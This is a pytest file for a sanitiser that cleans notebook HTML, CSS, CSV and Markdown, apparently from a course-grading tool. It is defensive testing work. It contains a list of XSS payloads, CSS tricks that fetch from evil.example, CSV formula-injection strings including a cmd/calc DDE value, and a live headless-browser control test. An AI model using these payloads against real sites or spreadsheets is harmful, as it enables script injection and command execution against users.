"""flowgrade.sanitize: hostile HTML never survives, notebook HTML still reads, fields stay text.

The browser test (skipped without Debian's chromium) loads pages with headless chromium and
proves two things end to end: the unsanitised control page does run its script and does fetch
from a local server (so the test can see an attack), and the sanitised page does neither.
"""
from __future__ import annotations

import base64
import csv
import html
import http.server
import io
import re
import shutil
import subprocess
import threading
import time

import pytest

from flowgrade.sanitize import (
    CSP, MAX_NESTING, csv_field, html_text, markdown_text, sanitize_css, sanitize_html,
)

PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478"
    "da63f8cfc0f01f0005000201a5d2a3b00000000049454e44ae426082")).decode()
SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>').decode()

# Each of these must come out with nothing active left (see assert_inert).
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="x" ONERROR="alert(1)">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
    "<img src=http://evil.example/track.png>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">click</a>',
    '<a href=" &#14; javascript:alert(1)">click</a>',
    '<a href="http://evil.example/">click</a>',
    '<a href="//evil.example/">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="#ok" onclick="alert(1)">click</a>',
    '<iframe src="http://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<style>@import url(http://evil.example/x.css); body{background:url(http://evil.example/b)}"
    "</style>",
    '<div style="background:url(http://evil.example/x)">styled</div>',
    '<p style="color:red; background-image: u&#x72;l(http://evil.example/y)">styled</p>',
    '<p style="width: expression(alert(1))">styled</p>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<form action="http://evil.example/"><input name="q"><button>go</button></form>',
    "<details open ontoggle=alert(1)>d</details>",
    "<video><source onerror=alert(1)></video>",
    '<table background="http://evil.example/t.png"><tr><td>t</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<body onload="alert(1)">',
    "<div><textarea></div><img src=x onerror=alert(1)></textarea>",
]

ACTIVE = re.compile(r"<\s*/?\s*(script|iframe|object|embed|form|input|button|meta|base|link|svg|"
                    r"math|style|video|source|textarea|noscript)\b|\son[a-z]+\s*=|javascript|"
                    r"evil\.example|@import|expression\s*\(|alert\(|url\(", re.I)


def split(doc: str) -> tuple[str, str]:
    head = doc[doc.index("<head>"):doc.index("</head>")]
    body = doc[doc.index("<body"):]
    return head, body


def assert_inert(doc: str) -> None:
    head, body = split(doc)
    assert not ACTIVE.search(body), ACTIVE.search(body)
    assert doc.startswith('<!DOCTYPE html>\n<html>\n<head>\n<meta http-equiv='
                          f'"Content-Security-Policy" content="{CSP}">\n')
    assert doc.count("<head>") == 1 and doc.count("<body") == 1 and doc.count("</html>") == 1
    assert "evil" not in head and "<script" not in head.lower()


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markup_never_survives(payload):
    page = ("<!DOCTYPE html><html><head><title>t</title></head><body>"
            f'<div class="jp-RenderedHTMLCommon">{payload}</div></body></html>')
    assert_inert(sanitize_html(page))
    assert_inert(sanitize_html(payload))  # a bare fragment too


def test_head_css_is_kept_without_any_external_reference():
    css = (
        "@import url(http://evil.example/a.css);\n"
        "@IMPORT 'http://evil.example/b.css';\n"
        "@\\69mport 'http://evil.example/c.css';\n"
        "body { background: url(http://evil.example/bg.png) no-repeat; color: #222; }\n"
        ".a { background: \\75 rl(http://evil.example/z) }\n"
        ".b { background: \\000075rl('http://evil.example/z2') }\n"
        ".c { background-image: image-set('http://evil.example/i.png' 1x); }\n"
        ".d { background-image: -webkit-image-set(url(//evil.example/j.png) 1x); }\n"
        ".e { width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml); }\n"
        "@font-face { font-family: f; src: url(https://evil.example/f.woff) format('woff'); }\n"
        ".g { background: u/**/rl(http://evil.example/comment) }\n"
        f".icon {{ --jp-icon: url(data:image/svg+xml;base64,{SVG}); }}\n"
        f".png {{ background: url('data:image/png;base64,{PNG}'); }}\n"
        ".jp-Notebook { padding: 4px; }\n"
    )
    page = (f"<!DOCTYPE html><html><head><style type='text/css'>{css}</style>"
            "<script>alert(1)</script></head><body class='jp-Notebook'><p>x</p></body></html>")
    doc = sanitize_html(page)
    head, body = split(doc)
    assert "<script" not in doc.lower() and "alert(1)</" not in doc
    # Every url( left is a data: image; nothing else can fetch.
    assert not re.search(r"url\((?!\s*['\"]?data:image/)", head, re.I)
    assert not re.search(r"@import|expression\(|image-set\(|behavior\s*:|-moz-binding", head, re.I)
    assert head.count("<style>") == 1 and head.count("</style>") == 1
    assert f'url("data:image/svg+xml;base64,{SVG}")' in head
    assert f'url("data:image/png;base64,{PNG}")' in head
    assert ".jp-Notebook { padding: 4px; }" in head and "color: #222" in head
    assert body.startswith('<body class="jp-Notebook">')
    # The same filter on its own, on escapes and comments hiding url( in every spelling.
    for sneaky in ["a{b:\\55RL(http://x)}", "a{b:U\\72L(http://x)}", "a{b:ur\\l(http://x)}",
                   "a{b:url(  'http://x'  )}", 'a{b:url("http://x" )}', "a{b:src(http://x)}",
                   "a{b:u/**/rl(http://x)}", "a{b:URL(http://x)}"]:
        out = sanitize_css(sneaky)
        assert not re.search(r"(url|src)\s*\(\s*['\"]?http", out, re.I), (sneaky, out)
    # CSS text can never close its <style> element.
    assert "<" not in sanitize_css("a{content:'</style><script>alert(1)</script>'}")


def student_styles_in_the_body_are_dropped():
    doc = sanitize_html("<html><head></head><body><p>a</p>"
                        "<style>.score{display:none}</style></body></html>")
    assert "display:none" not in doc


def test_student_style_elements_are_dropped():
    student_styles_in_the_body_are_dropped()
    # A fragment has no head of its own: its <style> is the student's.
    assert "position" not in sanitize_html("<p>x</p><style>p{position:fixed}</style>")


@pytest.fixture(scope="module")
def notebook_page() -> str:
    """nbconvert's HTML (lab template, as flowgrade.feedback uses) of a notebook with a heading,
    a Markdown table, code, a PNG plot, a JPEG and SVG image, a DataFrame-like table, and
    hostile markdown and _repr_html_ output."""
    import nbformat
    from nbconvert.exporters import HTMLExporter

    nb = nbformat.v4.new_notebook()
    md = ("# Change of variables\n\nThe density *transforms* as $p_X(x)$.\n\n"
          "| n | loss |\n|---|---|\n| 1 | 0.5 |\n\n<script>document.title='PWNED'</script>\n"
          "<img src=x onerror=\"document.title='PWNED'\">")
    out = [
        nbformat.v4.new_output("stream", name="stdout", text="epoch 1\n"),
        nbformat.v4.new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"}),
        nbformat.v4.new_output("display_data", data={
            "text/html": f'<img src="data:image/svg+xml;base64,{SVG}" alt="svg plot">'
                         f'<img src="data:image/jpeg;base64,{PNG}" alt="jpeg plot">'}),
        nbformat.v4.new_output("execute_result", execution_count=1, data={
            "text/plain": "df",
            "text/html": "<table class='dataframe'><thead><tr><th>x</th></tr></thead><tbody>"
                         "<tr><td style='text-align: right;'>1.5</td></tr></tbody></table>"
                         "<script>document.title='PWNED'</script>"
                         "<img src=x onerror=\"document.title='PWNED'\">"}),
    ]
    nb.cells = [nbformat.v4.new_markdown_cell(md),
                nbformat.v4.new_code_cell("import flowlib\nprint('epoch', 1)", outputs=out,
                                          execution_count=1)]
    page, _ = HTMLExporter().from_notebook_node(nb)
    return page


def test_notebook_html_still_reads(notebook_page):
    doc = sanitize_html(notebook_page)
    head, body = split(doc)
    assert 'data-jp-theme-light="true"' in body and 'class="jp-Notebook"' in body
    assert '<h1 id="Change-of-variables">' in body and 'href="#Change-of-variables"' in body
    assert "<em>transforms</em>" in body and "$p_X(x)$" in body
    assert "<th>loss</th>" in body and "<td>0.5</td>" in body
    assert '<span class="nb">print</span>' in body and "<pre>" in body
    assert f'src="data:image/png;base64,{PNG}"' in body
    assert f'src="data:image/svg+xml;base64,{SVG}"' in body
    assert f'src="data:image/jpeg;base64,{PNG}"' in body
    assert '<table class="dataframe">' in body and '<td style="text-align:right">1.5</td>' in body
    assert "epoch 1" in body and "PWNED" not in doc and "onerror" not in doc
    assert head.count("<style>") >= 3 and ".jp-Notebook" in head and "--jp-icon" in head
    assert "cdnjs" not in doc and "<script" not in doc.lower()
    assert sanitize_html(doc) == doc  # a fixed point: sanitising twice changes nothing


def test_deep_nesting_and_slow_pages_are_bounded():
    t0 = time.perf_counter()
    doc = sanitize_html("<div>" * 20_000 + "x")  # nh3 alone: ~3 s here (64,000: 44 s)
    assert "could not be shown safely" in doc and time.perf_counter() - t0 < 10
    ok = sanitize_html("<div>" * (MAX_NESTING - 1) + "deep enough")
    assert "deep enough" in ok
    lists = sanitize_html("<ul>" + "<li>item" * 2000 + "</ul><table>"
                          + "<tr><td>a<td>b" * 1000 + "</table>" + "<p>para" * 1000)
    assert lists.count("<li>") == 2000 and "could not" not in lists
    # "</div>" inside <title> is title text to the browser and to nh3, so these divs all nest;
    # the depth estimate reads raw-text elements the same way and is not fooled.
    hidden = "<div><title></div></title>" * 2_000
    assert "nests deeper" in sanitize_html(hidden, timeout=30)
    # Whatever the estimate misses, the timeout bounds.
    slow = sanitize_html("<div><span>x</span></div>" * 10_000, timeout=0.001)
    assert "took longer than" in slow and "<span>" not in slow


def test_odd_text_does_not_break_the_sanitiser():
    doc = sanitize_html("<p>lone \ud800 surrogate, NUL \x00, bidi \u202e</p>")
    assert "lone ? surrogate" in doc and "\x00" not in doc


def test_title_and_body_attributes_are_escaped():
    page = ('<html><head><title>&lt;/title&gt;&lt;script&gt;x</title></head>'
            '<body class="a b&quot;onload=x c<d" data-jp-theme-name="x&quot; onload=&quot;y" '
            'onload="alert(1)"><p>x</p></body></html>')
    doc = sanitize_html(page)
    assert "<title>&lt;/title&gt;&lt;script&gt;x</title>" in doc
    head, body = split(doc)
    assert body.startswith('<body class="a">') and "onload" not in doc


# ----------------------------------------------------------------------------- fields

@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1",
                                   "  =HYPERLINK(\"http://x\")", "=cmd|' /C calc'!A0"])
def test_csv_formula_injection_is_neutralised(value):
    out = csv_field(value)
    assert out.startswith("'") and not any(ord(c) < 32 for c in out)


def test_csv_fields_stay_one_cell():
    assert csv_field("alice") == "alice" and csv_field(None) == "" and csv_field(3) == "3"
    assert csv_field("a\nb\x1b[31m\x00c\u202e") == "a b[31mc"
    buf = io.StringIO()
    row = [csv_field(v) for v in ["x,y", 'q"uote', "line\nbreak", "=1"]]
    csv.writer(buf).writerow(row)
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [row]


def test_markdown_text_renders_as_the_same_text():
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable("table")  # raw HTML on, as Jupyter
    nasty = ["a|b", "`code`", "*bold* _it_", "[x](http://evil.example)",
             "<script>alert(1)</script>", "&amp; &#60;", "# head", "line\nbreak | x",
             "back\\|slash", "![i](http://evil.example/i)",
             "~~s~~ $x$"]
    for value in nasty:
        rendered = md.render(f"| name | note |\n|---|---|\n| {markdown_text(value)} | ok |\n")
        cells = re.findall(r"<td>(.*?)</td>", rendered, re.S)
        assert len(cells) == 2 and cells[1] == "ok", (value, rendered)
        assert "<script" not in rendered and "<a " not in rendered and "<img" not in rendered
        assert "<code>" not in rendered and "<em>" not in rendered and "<strong>" not in rendered
        # What a reader sees is the value itself (line breaks as spaces).
        assert html.unescape(cells[0]) == value.replace("\n", " "), (value, cells[0])


def test_html_text():
    assert html_text('<img src=x onerror="a">\'') == \
        "&lt;img src=x onerror=&quot;a&quot;&gt;&#x27;"
    assert html_text(None) == ""


# ----------------------------------------------------------------------------- a real browser

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed")
def test_chromium_runs_no_script_and_fetches_nothing(tmp_path):
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (http.server's name)
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    hostile = (
        f"<!DOCTYPE html><html><head><title>original</title>"
        f"<style>@import url({base}/import.css); body {{ background: url({base}/bg.png); }}</style>"
        f"</head><body><p id='marker'>marker text</p>"
        f"<script>document.title='PWNED-script'</script>"
        f"<img src='{base}/img.png' onerror=\"document.title='PWNED-onerror'\">"
        f"<img src=x onerror=\"document.title='PWNED-onerror2'\">"
        f"<svg onload=\"document.title='PWNED-svg'\"></svg>"
        f"<iframe src='{base}/frame.html'></iframe>"
        f"<div style='background:url({base}/style.png)'>styled</div>"
        f"<object data='{base}/object.swf'></object></body></html>"
    )
    chrome_env = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}

    def dump(page: str, name: str) -> str:
        path = tmp_path / name
        path.write_text(page)
        cmd = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
               f"--user-data-dir={tmp_path / ('profile-' + name)}", "--virtual-time-budget=500",
               "--dump-dom", path.as_uri()]
        return subprocess.run(cmd, capture_output=True, text=True, timeout=60,
                              env=chrome_env).stdout

    try:
        control = dump(hostile, "control.html")
        assert "PWNED" in control, "the control page's script did not run: the test is blind"
        assert hits, "the control page fetched nothing: the test is blind"
        hits.clear()
        safe = dump(sanitize_html(hostile), "safe.html")
    finally:
        server.shutdown()
    assert "marker text" in safe, "the sanitised page did not load"
    assert "PWNED" not in safe and "<title>original</title>" in safe
    assert hits == []
